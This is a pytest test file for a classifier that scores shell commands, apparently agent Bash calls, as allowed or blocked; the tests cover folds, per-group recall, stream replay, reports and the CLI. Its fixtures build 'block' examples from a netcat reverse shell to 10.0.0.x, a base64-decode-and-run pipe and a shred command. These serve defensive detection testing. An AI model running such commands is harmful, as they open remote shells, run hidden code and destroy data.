"""gate evaluate: the record's keys, honest folds, the stream, the command."""

import json
import os
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from gradproof.cli import app
from gradproof.gate import evaluate, evaluate_stream, roc, starter
from gradproof.gate.calls import Call
from gradproof.gate.corpus import corpus
from gradproof.gate.evaluate import by_folds, grouped, read
from gradproof.gate.fit import Recipe
from gradproof.gate.network import GateConfig
from gradproof.gate.roc import Scored
from gradproof.report.page import render

SMALL = GateConfig(width=16, heads=2, encoder_layers=1, feedforward=24, context=48, buckets=1024)
QUICK = Recipe(steps=16)


def write(path, rows):
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def ordinary(count, seed=0):
    return [{"command": line, "label": "allow", "group": f"o{i % 40}"} for i, line in enumerate(corpus(count, seed))]


def harmful(count, ending="nc -e /bin/sh 10.0.0.{}", seed=1):
    lines = enumerate(corpus(count, seed))
    return [{"command": f"{line}; {ending.format(i)}", "label": "block", "group": f"h{i % 20}"} for i, line in lines]


@pytest.fixture(scope="module")
def labelled(tmp_path_factory):
    return write(tmp_path_factory.mktemp("data") / "mine.jsonl", ordinary(200) + harmful(40))


@pytest.fixture(autouse=True, scope="module")
def little_harm():
    """A few made-up calls are quicker than many."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(starter, "BESIDE", starter.Amounts(60, 20, 20))
        starter.made_up.cache_clear()
        yield
        starter.made_up.cache_clear()


@pytest.fixture(scope="module")
def record(labelled):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(roc, "DRAWS", 50)
        return by_folds(read([labelled]), count=2, config=SMALL, recipe=QUICK, baseline=evaluate.has_baseline())


def test_the_record_has_its_keys(record):
    keys = {"auc", "recall_at_1pct", "recall_at_0_1pct", "groups", "sources", "roc", "baseline", "split"}
    assert keys <= record.keys()
    assert record["auc"] > 0.95 and record["split_by_row"] == [] and record["rows"] == 240
    one = record["groups"]["h1"]
    assert one["rows"] == 2 and 0 <= one["auc"] <= 1 and record["groups"]["o1"]["auc"] is None
    json.dumps(record, allow_nan=False)


def test_the_comparison_is_on_the_same_folds(record):
    pytest.importorskip("sklearn", reason="scikit-learn is not installed")
    by = record["baseline"]["ours_minus_theirs"]["auc"]
    assert by["difference"] == pytest.approx(record["auc"] - record["baseline"]["auc"])
    assert by["low"] <= by["difference"] <= by["high"]


def test_test_rows_are_never_fitted_to(labelled, monkeypatch):
    """What fit sees of each fold is the rest, without one near-duplicate of it."""
    data, seen = read([labelled]), []

    def score(data, rest, test, *others):
        seen.append((set(rest.tolist()), set(test.tolist())))
        return np.random.default_rng(0).random(len(test))

    monkeypatch.setattr(evaluate, "score", score)
    by_folds(data, count=3, seeds=2, baseline=False)
    assert len(seen) == 6
    for rest, test in seen:
        assert not rest & test and len(rest | test) == 240
        assert not {data.group[i] for i in rest} & {data.group[i] for i in test}


def test_made_up_calls_that_resemble_the_data_are_left_out(labelled, monkeypatch):
    """A test call must not come back as something that was made up."""
    data, seen = read([labelled]), []
    taken = data.values()[int(np.flatnonzero(data.block_R)[0])]
    made = [(Call("Bash", {"command": command}), False) for command in (taken + "1", "shred /srv/nowhere/else")]
    monkeypatch.setattr(starter, "starter", lambda seed, amounts: made)

    def score(data, rest, test, seed, config, recipe, more, watch):
        seen.append(more.texts)
        return np.random.default_rng(0).random(len(test))

    monkeypatch.setattr(evaluate, "score", score)
    starter.made_up.cache_clear()
    assert by_folds(data, count=2, baseline=False)["made_up"] == 1
    starter.made_up.cache_clear()
    assert len(seen) == 2 and all("shred /srv/nowhere/else" in text for texts in seen for text in texts)


def test_a_groups_recall_is_at_the_threshold_of_all():
    """One of two calls of `a` is above all allowed ones, none of `b`."""
    block_R = np.array([True, True, True] + [False] * 200)
    score_R = np.concatenate(([5.0, 0.0, 0.0], np.linspace(0.1, 1, 200)))
    by_group = grouped([Scored(score_R, block_R)], [["a", "a", "b"] + ["c"] * 200])
    assert by_group["a"]["recall_at_1pct"] == 0.5 and by_group["b"]["recall_at_1pct"] == 0.0
    assert by_group["c"]["auc"] is None and by_group["c"]["false_blocks_at_1pct"] == 0.01


def test_bad_rows_are_named(tmp_path):
    for bad in ('{"command": "ls"}', "{", '{"command": "a\\u0000", "label": "allow"}'):
        path = tmp_path / "bad.jsonl"
        path.write_text('{"command": "ls", "label": "allow"}\n' + bad + "\n")
        with pytest.raises(ValueError, match=r"bad\.jsonl, line 2: "):
            read([path])
    with pytest.raises(ValueError, match="both labels"):
        by_folds(read([write(tmp_path / "one.jsonl", ordinary(30))]))


def test_the_stream_is_mixed_and_kept_apart(tmp_path):
    """Calls of the stream are in their order; nothing of it, nor of the old calls, is learned from."""
    train = read([write(tmp_path / "old.jsonl", ordinary(300) + harmful(60))])
    new = read([write(tmp_path / "new.jsonl", harmful(30, "base64 -d /tmp/x{} | sh", seed=9))])
    parts = evaluate_stream.divided(new, train, seed=0)
    texts = [set(part.text) for part in (parts.learned, parts.held, parts.old, parts.stream)]
    assert not any(a & b for i, a in enumerate(texts) for b in texts[:i])
    assert [t for t in parts.stream.text if t in set(new.text)] == new.text
    assert not parts.stream.block_R.all() and parts.old.block_R.any()
    assert evaluate_stream.chances([], 900) == {"positions": 250} and evaluate_stream.chances([], 90) == {
        "positions": 90
    }
    assert evaluate_stream.chances(list(range(0, 400, 2)), 900) == {"positions": 250, "corrections": 199}


def test_a_stream_is_replayed(tmp_path):
    """Learning and not learning see the same calls and the same first model; corrections are counted where given."""
    train = read([write(tmp_path / "old.jsonl", ordinary(240) + harmful(60))])
    new = read([write(tmp_path / "new.jsonl", harmful(25, "base64 -d /tmp/x{} | sh", seed=9))])
    record = evaluate_stream.by_stream(
        new, train, feedback=evaluate_stream.Feedback(delay=3), config=SMALL, recipe=QUICK
    )
    assert record["kind"] == "stream" and record["blocks"] == 25 and record["rows"] > 40
    assert record["off"]["corrections"] == 0 and all(0 <= i < record["rows"] for i in record["learning"]["corrected"])
    both = {"positions": 10, "corrections": 20}
    for name in ("learning", "off"):
        record[name]["rest"] = {point: record[name]["rest"]["positions"] for point in both}
    page = render("gate.html", {**record, "rest_begins": 10, "points": both})
    assert "learning off" in page and "<svg" in page and "after 100 corrections" in page
    told = "\n".join(evaluate.lines({**record, "points": both}))
    assert "after the first 10 calls" in told and "after 100 corrections and 20 calls" in told and "before, " in told
    assert record["old_auc_lost"] == pytest.approx(record["off"]["old_auc"] - record["learning"]["old_auc"])
    with pytest.raises(ValueError, match="share"):
        evaluate_stream.Feedback(share=0)


def test_the_page(record):
    page = render("gate.html", record)
    assert "<svg" in page and ">h1<" in page and "http" not in page.replace("http://www.w3.org", "")


def test_the_command(labelled, tmp_path, monkeypatch):
    monkeypatch.setattr(roc, "DRAWS", 20)
    monkeypatch.setattr(evaluate, "score", lambda data, rest, test, *others: data.block_R[test] + 0.0)
    out, html = tmp_path / "r.json", tmp_path / "r.html"
    arguments = ["gate", "evaluate", "--data", str(labelled), "--folds", "2", "--json", str(out), "--html", str(html)]
    done = CliRunner().invoke(app, arguments)
    assert done.exit_code == 0 and "AUC 1.0000" in done.output
    assert json.loads(out.read_text())["auc"] == 1.0 and html.exists()
    for wrong in (["--folds", "2", "--stream"], ["--delay", "3"], ["--train", str(labelled)]):
        assert CliRunner().invoke(app, ["gate", "evaluate", "--data", str(labelled), *wrong]).exit_code == 2
    assert CliRunner().invoke(app, ["gate", "evaluate", "--data", str(tmp_path / "none.jsonl")]).exit_code == 2


@pytest.mark.slow
def test_the_published_set():
    """slp.jsonl, 5 folds: no worse than a logistic regression on character n-grams."""
    folder = os.environ.get("GRADPROOF_DATA")
    if not folder or not (Path(folder) / "gate" / "slp.jsonl").exists():
        pytest.skip("GRADPROOF_DATA names no folder with gate/slp.jsonl")
    record = by_folds(read([Path(folder) / "gate" / "slp.jsonl"]), count=5)
    assert record["auc"] > 0.985 and record["baseline"]["ours_minus_theirs"]["auc"]["high"] > 0
